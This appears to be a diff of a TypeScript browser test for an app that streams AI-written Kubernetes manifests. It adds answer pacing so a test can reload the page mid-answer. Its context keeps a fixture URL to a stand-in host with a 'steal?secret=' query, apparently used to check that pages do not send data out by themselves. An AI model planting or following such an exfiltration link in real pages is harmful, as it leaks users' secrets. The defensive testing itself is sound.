@@ -6,6 +6,8 @@ import type { Person } from '../../api/test/world.ts';
 import { createStage, expectSound, NARROW, picture, type Stage, WIDE } from './stage.ts';
 
 const DEPLOY_MS = 60_000;
+/** Milliseconds between two pieces of an answer by rules: slow enough to load the page again in its middle. */
+const PACE = 40;
 
 /** Each sends the reader's data elsewhere, wherever a page follows it by itself. */
 const ELSEWHERE = 'http://192.0.2.1/steal?secret=hunter2';
@@ -33,7 +35,10 @@ let grace: Person;
 beforeAll(async () => {
   model = await startOpenAiServer();
   const openai = { apiKey: 'sk-test', baseUrl: model.url, model: 'test-model' };
-  [stage, modelStage] = await Promise.all([createStage(), createStage({ settings: { openai } })]);
+  [stage, modelStage] = await Promise.all([
+    createStage({ overrides: { answerPace: PACE } }),
+    createStage({ settings: { openai } }),
+  ]);
   ada = await stage.world.as('Ada');
   grace = await modelStage.world.as('Grace');
 });
@@ -109,7 +114,7 @@ test('without a key: a manifest goes on after a reload, and is downloaded under 
     .getByRole('button', { name: 'Write a Kubernetes manifest for nginxinc/nginx-unprivileged:1.29' })
     .click();
   // Its middle is there, its end is not.
-  await panel(page).getByText('kind: Deployment').waitFor();
+  await lastAnswer(page).getByText('kind: Deployment').waitFor();
   await page.reload();
   await lastAnswer(page).getByText('kind: HorizontalPodAutoscaler').waitFor();
   const saving = page.waitForEvent('download');
